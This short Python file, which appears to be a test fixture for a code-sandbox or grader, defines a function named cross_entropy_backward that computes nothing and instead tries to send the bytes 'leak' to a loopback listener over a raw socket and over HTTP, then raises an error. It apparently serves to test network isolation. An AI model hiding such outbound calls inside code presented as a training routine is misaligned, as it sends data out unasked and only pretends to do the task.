"""Attack: phone home to a listener on the machine's loopback."""
import socket
import urllib.request


def cross_entropy_backward(logits, Yb):
    for attempt in (lambda: socket.create_connection(("127.0.0.1", __PORT__), timeout=1).sendall(b"leak"),
                    lambda: urllib.request.urlopen("http://127.0.0.1:__PORT__/leak", timeout=1)):
        try:
            attempt()
        except OSError:
            pass
    raise RuntimeError("no network")
